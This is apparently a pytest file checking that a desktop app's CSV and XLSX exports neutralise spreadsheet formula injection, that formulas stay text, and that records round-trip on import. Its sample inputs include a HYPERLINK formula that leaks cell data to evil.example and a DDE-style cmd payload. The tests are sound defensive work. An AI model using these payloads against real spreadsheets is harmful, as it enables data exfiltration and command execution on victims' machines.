"""Text that a spreadsheet would run as a formula stays text in CSV and XLSX."""
from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop_app.domain.models import Agreement, Organization, Person
from desktop_app.exchange.cells import is_formula_like, neutralise, unneutralise
from desktop_app.services.exports import export_signings
from desktop_app.services.table_import import import_table
from desktop_app.storage import Database

DANGEROUS = {
    "org": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "short": "+SUM(1+1)",
    "title": "-2+3 cmd|' /C calc'!A0",
    "signatory": "@SUM(1)",
    "position": "\t=1+1",
    "reference": "=2+2",
    "honorific": "\r=3+3",
}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_each_trigger_is_neutralised_and_restored(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", ["ADA University", "Ə", "'quoted'", "a=b", "", "1+1"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text
    assert unneutralise(text) == text


@pytest.fixture
def poisoned(db: Database, sample_event: str) -> str:
    with db.session() as session:
        org = session.query(Organization).filter_by(key="ada").one()
        org.name, org.short_name = DANGEROUS["org"], DANGEROUS["short"]
        agreement = session.query(Agreement).filter_by(key="mou-001").one()
        agreement.title, agreement.reference = DANGEROUS["title"], DANGEROUS["reference"]
        person = session.query(Person).filter_by(key="pashayev").one()
        person.given_name, person.family_name = None, DANGEROUS["signatory"]
        person.position = DANGEROUS["position"]
        person.honorific = DANGEROUS["honorific"]
    return sample_event


def test_csv_cells_start_with_an_apostrophe(db: Database, poisoned: str, tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    export_signings(db, poisoned, path)
    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    row = next(r for r in rows if r["Organization"].startswith("'="))
    assert row["Organization"] == "'" + DANGEROUS["org"]
    assert row["Short name"] == "'" + DANGEROUS["short"]
    assert row["Title"] == "'" + DANGEROUS["title"]
    assert row["Signatory"] == "'" + DANGEROUS["signatory"]
    assert row["Signatory position"] == "'" + DANGEROUS["position"]
    assert row["Reference"] == "'" + DANGEROUS["reference"]
    assert row["Signatory honorific"] == "'" + DANGEROUS["honorific"]
    for record in rows:
        for value in record.values():
            assert not is_formula_like(value), value


def test_xlsx_cells_are_strings_never_formulas(db: Database, poisoned: str,
                                               tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    export_signings(db, poisoned, path)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(path)
    found = set()
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    found.add(cell.value)
    # The text itself is kept exactly: the workbook is a faithful record.
    assert {DANGEROUS["org"], DANGEROUS["short"], DANGEROUS["title"], DANGEROUS["signatory"],
            DANGEROUS["position"], DANGEROUS["reference"], DANGEROUS["honorific"]} <= found


def test_neutralised_csv_imports_back_to_the_same_records(db: Database, poisoned: str,
                                                          tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    export_signings(db, poisoned, path)
    report = import_table(db, poisoned, "agreements", path)
    assert report.count("create") == 0 and report.count("update") == 0
    with db.reader() as session:
        assert session.query(Organization).filter_by(key="ada").one().name == DANGEROUS["org"]
